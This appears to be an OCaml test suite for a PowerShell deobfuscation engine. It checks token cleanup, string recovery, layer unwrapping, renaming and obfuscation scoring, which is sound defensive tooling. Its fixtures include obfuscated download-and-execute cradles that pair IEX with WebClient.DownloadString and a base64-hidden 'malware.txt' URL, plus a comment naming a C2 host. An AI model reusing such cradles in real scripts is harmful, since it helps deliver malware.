(* Tests for the core contribution: token phase, variable tracing, AST
   recovery, multi-layer unwrapping, rename/reformat, scoring, and the
   engine's semantics-preservation guarantee. *)

open Pscommon

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let deobf src = Pipeline.output src

let deobf_no_rename src =
  Pipeline.output
    ~options:{ Deobf.Engine.default_options with rename = false; reformat = false }
    src

let contains needle s = Strcase.contains ~needle s

(* ---------- token phase ---------- *)

let test_token_phase_ticks () =
  check_s "ticks removed" "Invoke-Expression '1'"
    (Deobf.Token_phase.run "i`Nv`OKe-eXp`RessIon '1'")

let test_token_phase_alias () =
  check_s "alias expanded" "Invoke-Expression '1'" (Deobf.Token_phase.run "iex '1'");
  check_s "gci expanded" "Get-ChildItem" (Deobf.Token_phase.run "GCI")

let test_token_phase_case () =
  check_s "command canonicalised" "Write-Host hello"
    (Deobf.Token_phase.run "wRiTe-hOSt hello");
  check_s "keyword lowered" "if ($a) { 1 }" (Deobf.Token_phase.run "IF ($a) { 1 }");
  check_s "operator lowered" "'a' -split 'b'" (Deobf.Token_phase.run "'a' -SpLiT 'b'")

let test_token_phase_members_types () =
  let out = Deobf.Token_phase.run "[tExT.eNcOdING]::unicode.gEtStRiNg($x)" in
  check_b "type canonical" true (String.length out > 0);
  check_s "member case" "[Text.Encoding]::Unicode.GetString($x)" out

let test_token_phase_preserves_strings () =
  check_s "strings untouched" "'IeX kEeP mE'" (Deobf.Token_phase.run "'IeX kEeP mE'")

let test_token_phase_keeps_invalid_input () =
  let bad = "'unterminated" in
  check_s "returned unchanged" bad (Deobf.Token_phase.run bad)

(* ---------- recovery ---------- *)

let test_recover_concat () =
  check_s "concat" "'hello'" (String.trim (deobf_no_rename "('he'+'llo')"))

let test_recover_format () =
  check_s "reorder" "'write-host hello'"
    (String.trim (deobf_no_rename {|("{2}{0}{1}" -f 'ost h', 'ello', 'write-h')|}))

let test_recover_in_assignment () =
  check_s "assignment rhs" "$fmp = 'ab'"
    (String.trim (deobf_no_rename "$fmp = 'a'+'b'"))

let test_recover_in_pipe () =
  check_s "pipe element" "'ab'|Out-Null"
    (String.trim (deobf_no_rename "'a'+'b'|out-null"))

let test_variable_tracing () =
  let src = "$a = 'mal'\n$b = $a + 'ware'\nwrite-host $b" in
  let out = deobf_no_rename src in
  check_b "value propagated" true (contains "'malware'" out)

let test_tracing_skips_loop_variables () =
  (* a variable assigned in a loop must not be substituted *)
  let src = "foreach ($i in 1..3) { $x = $i }\nwrite-host $x" in
  let out = deobf_no_rename src in
  check_b "usage kept" true (contains "$x" out)

let test_tracing_skips_conditional () =
  let src = "if ($flag) { $v = 'a' } else { $v = 'b' }\nwrite-host $v" in
  let out = deobf_no_rename src in
  check_b "conditional value not propagated" true (contains "$v" out)

let static_options =
  { Deobf.Engine.default_options with
    rename = false;
    reformat = false;
    recovery =
      { Deobf.Engine.default_options.Deobf.Engine.recovery with
        Deobf.Engine.use_dynamic = false } }

let test_tracing_eviction_after_loop () =
  (* $x known before the loop, mutated inside: the static tracer must evict
     it so the stale pre-loop value is never substituted downstream.  (The
     dynamic stage then folds the loop to its final value — that path keeps
     its own tests in the provenance suite.) *)
  let src = "$x = 'start'\nforeach ($i in 1..2) { $x += $i }\nwrite-host $x" in
  let out = Pipeline.output ~options:static_options src in
  check_b "evicted" true (contains "write-host $x" out);
  check_b "stale value not substituted" true (not (contains "'start'," out));
  let full = deobf_no_rename src in
  check_b "dynamic stage folds final value" true (contains "start12" full)

let test_unknown_variable_piece_kept () =
  let src = "($unknown + 'tail')" in
  check_s "kept" src (String.trim (deobf_no_rename src))

let test_blocklist_prevents_execution () =
  let src = "(New-Object Net.WebClient).DownloadString('http://x') + 'y'" in
  let out = deobf_no_rename src in
  check_b "network piece kept" true (contains "DownloadString" out)

let test_byte_results_kept () =
  (* binary payloads have no string form: keep the piece (§IV-C4) *)
  let src = "$bytes = [Convert]::FromBase64String('TVqQAA==')" in
  let out = deobf_no_rename src in
  check_b "FromBase64String kept" true (contains "FromBase64String" out)

let test_write_host_not_erased () =
  (* executing a pipeline with no output must not replace it *)
  let src = "write-host hello" in
  check_s "kept" "Write-Host hello" (String.trim (deobf_no_rename src))

(* ---------- multilayer ---------- *)

let test_multilayer_literal_iex () =
  let out = deobf_no_rename "iex ('write-host'+' hi')" in
  check_s "unwrapped" "Write-Host hi" (String.trim out)

let test_multilayer_obfuscated_iex () =
  let out = deobf_no_rename ".($pshome[4]+$pshome[30]+'x') ('write-host'+' hi')" in
  check_s "unwrapped" "Write-Host hi" (String.trim out)

let test_multilayer_pipe_form () =
  let out = deobf_no_rename "('write-host'+' hi') | iex" in
  check_s "unwrapped" "Write-Host hi" (String.trim out)

let test_multilayer_powershell_enc () =
  let b64 = Encoding.Base64.encode (Encoding.Utf16.encode "write-host enc") in
  let out = deobf_no_rename (Printf.sprintf "powershell -eNc %s" b64) in
  check_s "decoded" "Write-Host enc" (String.trim out)

let test_multilayer_nested () =
  let rng = Rng.of_int 3 in
  let layered = Obfuscator.Obfuscate.multilayer rng 3 "write-output 'core'" in
  let result, output = Pipeline.run layered in
  check_b "layers unwrapped" true
    (result.Deobf.Batch.stats.Deobf.Recover.layers_unwrapped >= 3);
  check_b "core visible" true (contains "'core'" output)

let test_whitespace_encoding_static_limit () =
  (* the paper's §V-C limitation: the loop-based whitespace decoder cannot
     be traced *statically*.  The provenance-guided dynamic stage now folds
     it, so the limitation only holds with dynamic recovery disabled. *)
  let rng = Rng.of_int 5 in
  let ob = Obfuscator.Obfuscate.apply rng Obfuscator.Technique.Enc_whitespace "write-host hi" in
  let static_only =
    Pipeline.output
      ~options:
        { Deobf.Engine.default_options with
          recovery =
            { Deobf.Engine.default_options.Deobf.Engine.recovery with
              Deobf.Engine.use_dynamic = false } }
      ob
  in
  check_b "payload still hidden statically" true
    (not (contains "write-host hi" static_only));
  check_b "payload recovered dynamically" true (contains "write-host hi" (deobf ob))

(* ---------- rename / reformat ---------- *)

let test_rename_random_names () =
  let out = Deobf.Rename.rename "$xK9dQz2 = 1; $pQ7wY = $xK9dQz2 + 1" in
  check_b "var0" true (contains "$var0" out);
  check_b "var1" true (contains "$var1" out)

let test_rename_keeps_readable_names () =
  (* vowel ratio of "messageresult" is ~38%, inside the paper's band *)
  let src = "$message = 1; $result = $message" in
  check_s "unchanged" src (Deobf.Rename.rename src)

let test_rename_functions () =
  let out =
    Deobf.Rename.rename
      "function Xk9QzW2v { 'x' }\n$JQz7Kp9 = Xk9QzW2v"
  in
  check_b "func0" true (contains "function func0" out);
  check_b "call site renamed" true (contains "= func0" out)

let test_rename_updates_interpolations () =
  let out = Deobf.Rename.rename "$xK9dQz2 = 5; $wQ93km = 2; write-host \"v=$xK9dQz2\"" in
  check_b "string updated" true (contains "\"v=$var0\"" out)

let test_names_look_random_stats () =
  check_b "random consonants" true (Deobf.Rename.names_look_random [ "xkcdqzw"; "pqrst" ]);
  check_b "english-like" false (Deobf.Rename.names_look_random [ "message"; "result" ]);
  check_b "specials" true (Deobf.Rename.names_look_random [ "!!!"; "@#$" ]);
  check_b "tiny sample inconclusive" false (Deobf.Rename.names_look_random [ "name" ]);
  check_b "empty" false (Deobf.Rename.names_look_random [])

let test_reformat_keeps_comments () =
  let out = Deobf.Rename.reformat "write-host x # C2 at http://evil.example/c2" in
  check_b "comment survives" true (contains "# C2 at http://evil.example/c2" out)

let test_report_analyze () =
  let r = Deobf.Report.analyze "iex ('write-host '+'hi')" in
  check_b "changed" true r.Deobf.Report.outcome.Deobf.Batch.changed;
  check_b "score drops" true (r.Deobf.Report.score_after < r.Deobf.Report.score_before);
  check_b "layer counted" true
    (r.Deobf.Report.outcome.Deobf.Batch.stats.Deobf.Recover.layers_unwrapped >= 1);
  let json = Deobf.Report.to_json r in
  check_b "json mentions output" true (contains "\"output\"" json);
  check_b "json escapes newline" true (contains "\\n" json)

let test_reformat_collapses_whitespace () =
  check_s "single spaces" "write-host a b\n"
    (Deobf.Rename.reformat "write-host     a      b")

let test_reformat_indents_blocks () =
  let out = Deobf.Rename.reformat "if ($x) {\nwrite-host deep\n}" in
  check_b "indented" true (contains "\n  Write-Host deep" out || contains "\n  write-host deep" out)

let test_reformat_preserves_member_adjacency () =
  let src = "(New-Object Net.WebClient).DownloadString('http://x')" in
  let out = Deobf.Rename.reformat src in
  check_b "still valid" true (Psparse.Parser.is_valid_syntax out);
  check_b "no space before dot" true (contains ").downloadstring" out)

let test_reformat_keeps_for_semicolons () =
  let out = Deobf.Rename.reformat "for ($i=0; $i -lt 3; $i++) { $i }" in
  check_b "valid" true (Psparse.Parser.is_valid_syntax out)

(* ---------- score ---------- *)

let detect = Deobf.Score.detect

let test_score_detects_techniques () =
  check_b "ticking" true (detect "wri`te-host hi").Deobf.Score.ticking;
  check_b "alias" true (detect "iex '1'").Deobf.Score.alias;
  check_b "random case" true (detect "wRiTe-hOSt x").Deobf.Score.random_case;
  check_b "whitespacing" true (detect "write-host        x").Deobf.Score.whitespacing;
  check_b "concat" true (detect "('a'+'b')").Deobf.Score.concat;
  check_b "reorder" true (detect {|("{1}{0}" -f 'b','a')|}).Deobf.Score.reorder;
  check_b "replace" true (detect "'axc'.Replace('x','b')").Deobf.Score.replace;
  check_b "reverse" true (detect "-join ('cba'[-1..-3])").Deobf.Score.reverse;
  check_b "bxor" true (detect "$_ -bxor 0x4B").Deobf.Score.enc_bxor;
  check_b "base64" true
    (detect "[Convert]::FromBase64String('eA==')").Deobf.Score.enc_base64;
  check_b "radix" true
    (detect "[char][convert]::ToInt32('68',16)").Deobf.Score.enc_radix;
  check_b "securestring" true
    (detect "ConvertTo-SecureString -String 'x' -Key (0..31)").Deobf.Score.secure_string;
  check_b "deflate" true
    (detect "[IO.Compression.DeflateStream]").Deobf.Score.compress

let test_score_clean_script_zero () =
  check_i "clean" 0 (Deobf.Score.score "Write-Host hello");
  check_i "clean assignment" 0 (Deobf.Score.score "$path = 'C:\\temp\\a.txt'")

let test_score_levels_weighting () =
  (* one L1 + one L3 technique = 1 + 3 *)
  let s = Deobf.Score.score "ie`x ([Convert]::FromBase64String('eA=='))" in
  check_b "weighted" true (s >= 4)

let test_score_counts_each_technique_once () =
  let one = Deobf.Score.score "('a'+'b')" in
  let twice = Deobf.Score.score "('a'+'b'); ('c'+'d')" in
  check_i "same" one twice

(* ---------- engine guarantees ---------- *)

let test_engine_invalid_input_unchanged () =
  let bad = "if (1) { no closing" in
  let result, output = Pipeline.run bad in
  check_s "unchanged" bad output;
  check_b "flagged" true (not result.Deobf.Batch.changed)

let test_engine_output_always_valid () =
  let rng = Rng.of_int 77 in
  for _ = 1 to 25 do
    let _, clean = Corpus.Templates.generate rng in
    let ob, _ = Obfuscator.Obfuscate.wild_mix rng clean in
    let out = deobf ob in
    check_b "valid output" true (Psparse.Parser.is_valid_syntax out)
  done

let test_engine_idempotent_on_clean () =
  let clean = "Write-Host hello\n$path = 'C:\\x'\n" in
  let once = deobf clean in
  let twice = deobf once in
  check_s "stable" once twice

let test_paper_case_study () =
  let case =
    "iNv`OKe-eX`pREssIoN ((\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'))\n\
     $xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n\
     $lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n\
     $sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n\
     .($psHoME[4]+$PSHOME[30]+'x') ((nEw-oBJeCt Net.WebClient).downloadstring($sdfs))"
  in
  let out = deobf case in
  check_b "command recovered" true (contains "Write-Host hello" out);
  check_b "url recovered" true (contains "'https://test.com/malware.txt'" out);
  check_b "renamed" true (contains "$var0" out);
  check_b "network piece kept" true (contains "DownloadString" out)

let test_large_sample_performance () =
  (* a 3-layer sample over a multi-statement script grows past 100 KB;
     deobfuscation must stay within a sane budget *)
  let rng = Rng.of_int 515 in
  let clean =
    String.concat "\n"
      (List.init 25 (fun _ -> snd (Corpus.Templates.generate rng)))
  in
  let layered = Obfuscator.Obfuscate.multilayer rng 3 clean in
  check_b "large input" true (String.length layered > 20_000);
  let t0 = Unix.gettimeofday () in
  let result, _ = Pipeline.run layered in
  let elapsed = Unix.gettimeofday () -. t0 in
  check_b "completes quickly" true (elapsed < 20.0);
  check_b "unwrapped" true
    (result.Deobf.Batch.stats.Deobf.Recover.layers_unwrapped >= 3)

let prop_deobf_preserves_network_behavior =
  QCheck.Test.make ~name:"engine: deobfuscation preserves network behaviour"
    ~count:40 QCheck.small_nat
    (fun seed ->
      let rng = Rng.of_int (seed * 31 + 7) in
      let _, clean = Corpus.Templates.generate rng in
      let ob, _ = Obfuscator.Obfuscate.wild_mix rng clean in
      let out = deobf ob in
      Sandbox.same_network_behavior (Sandbox.run ob) (Sandbox.run out))

let prop_deobf_never_raises =
  QCheck.Test.make ~name:"engine: never raises on arbitrary input" ~count:200
    QCheck.(string_of_size Gen.(int_range 0 80))
    (fun junk ->
      match Pipeline.run junk with
      | _ -> true
      | exception _ -> false)

(* mutation fuzz: valid obfuscated scripts, randomly truncated or spliced,
   must never crash the engine (they may of course come back unchanged) *)
let prop_deobf_survives_mutations =
  QCheck.Test.make ~name:"engine: never raises on mutated scripts" ~count:120
    QCheck.(pair small_nat (pair small_nat small_nat))
    (fun (seed, (cut_a, cut_b)) ->
      let rng = Rng.of_int (seed + 3000) in
      let _, clean = Corpus.Templates.generate rng in
      let ob, _ = Obfuscator.Obfuscate.wild_mix rng clean in
      let n = String.length ob in
      let a = cut_a mod (n + 1) and b = cut_b mod (n + 1) in
      let lo = min a b and hi = max a b in
      let mutated = String.sub ob 0 lo ^ String.sub ob hi (n - hi) in
      match Pipeline.run mutated with
      | _ -> true
      | exception _ -> false)

(* differential check: every technique, every position, several seeds —
   the engine must recover the canonical command (Table II, our column) *)
let test_differential_all_techniques () =
  let tool = Baselines.All_tools.invoke_deobfuscation in
  List.iter
    (fun technique ->
      if technique <> Obfuscator.Technique.Enc_whitespace then
        check_b
          (Obfuscator.Technique.name technique ^ " full recovery")
          true
          (Experiments.Table2.test_cell tool technique = Experiments.Table2.Full))
    Obfuscator.Technique.all

(* unwrapping can EXPOSE obfuscation that was hidden inside an encoded
   layer, so per-sample monotonicity does not hold; the paper's claim is an
   aggregate reduction, tested here over a small corpus *)
let test_score_reduces_on_average () =
  let total_before = ref 0 and total_after = ref 0 in
  let rng = Rng.of_int 2024 in
  for _ = 1 to 30 do
    let _, clean = Corpus.Templates.generate rng in
    let ob, _ = Obfuscator.Obfuscate.wild_mix rng clean in
    total_before := !total_before + Deobf.Score.score ob;
    total_after := !total_after + Deobf.Score.score (deobf ob)
  done;
  check_b "halved on average" true (!total_after * 2 < !total_before)

let suite =
  [
    ("token phase: ticks", `Quick, test_token_phase_ticks);
    ("token phase: alias", `Quick, test_token_phase_alias);
    ("token phase: case", `Quick, test_token_phase_case);
    ("token phase: members/types", `Quick, test_token_phase_members_types);
    ("token phase: strings untouched", `Quick, test_token_phase_preserves_strings);
    ("token phase: invalid input unchanged", `Quick, test_token_phase_keeps_invalid_input);
    ("recover: concat", `Quick, test_recover_concat);
    ("recover: format", `Quick, test_recover_format);
    ("recover: assignment position", `Quick, test_recover_in_assignment);
    ("recover: pipe position", `Quick, test_recover_in_pipe);
    ("tracing: propagation", `Quick, test_variable_tracing);
    ("tracing: loop variables skipped", `Quick, test_tracing_skips_loop_variables);
    ("tracing: conditionals skipped", `Quick, test_tracing_skips_conditional);
    ("tracing: eviction after loop", `Quick, test_tracing_eviction_after_loop);
    ("recover: unknown variable kept", `Quick, test_unknown_variable_piece_kept);
    ("recover: blocklist", `Quick, test_blocklist_prevents_execution);
    ("recover: byte results kept", `Quick, test_byte_results_kept);
    ("recover: write-host kept", `Quick, test_write_host_not_erased);
    ("multilayer: literal iex", `Quick, test_multilayer_literal_iex);
    ("multilayer: obfuscated iex", `Quick, test_multilayer_obfuscated_iex);
    ("multilayer: pipe form", `Quick, test_multilayer_pipe_form);
    ("multilayer: powershell -enc", `Quick, test_multilayer_powershell_enc);
    ("multilayer: nested", `Quick, test_multilayer_nested);
    ("multilayer: whitespace encoding static limit", `Quick, test_whitespace_encoding_static_limit);
    ("rename: random names", `Quick, test_rename_random_names);
    ("rename: readable kept", `Quick, test_rename_keeps_readable_names);
    ("rename: functions", `Quick, test_rename_functions);
    ("rename: interpolations", `Quick, test_rename_updates_interpolations);
    ("rename: randomness statistic", `Quick, test_names_look_random_stats);
    ("reformat: whitespace", `Quick, test_reformat_collapses_whitespace);
    ("reformat: keeps comments", `Quick, test_reformat_keeps_comments);
    ("report: analyze/json", `Quick, test_report_analyze);
    ("reformat: indentation", `Quick, test_reformat_indents_blocks);
    ("reformat: member adjacency", `Quick, test_reformat_preserves_member_adjacency);
    ("reformat: for semicolons", `Quick, test_reformat_keeps_for_semicolons);
    ("score: technique detection", `Quick, test_score_detects_techniques);
    ("score: clean is zero", `Quick, test_score_clean_script_zero);
    ("score: level weighting", `Quick, test_score_levels_weighting);
    ("score: once per technique", `Quick, test_score_counts_each_technique_once);
    ("engine: invalid input unchanged", `Quick, test_engine_invalid_input_unchanged);
    ("engine: output always valid", `Quick, test_engine_output_always_valid);
    ("engine: idempotent on clean", `Quick, test_engine_idempotent_on_clean);
    ("engine: paper case study", `Quick, test_paper_case_study);
    ("engine: large sample performance", `Slow, test_large_sample_performance);
    QCheck_alcotest.to_alcotest prop_deobf_preserves_network_behavior;
    QCheck_alcotest.to_alcotest prop_deobf_never_raises;
    QCheck_alcotest.to_alcotest prop_deobf_survives_mutations;
    ("differential: all techniques", `Slow, test_differential_all_techniques);
    ("score reduces on average", `Quick, test_score_reduces_on_average);
  ]
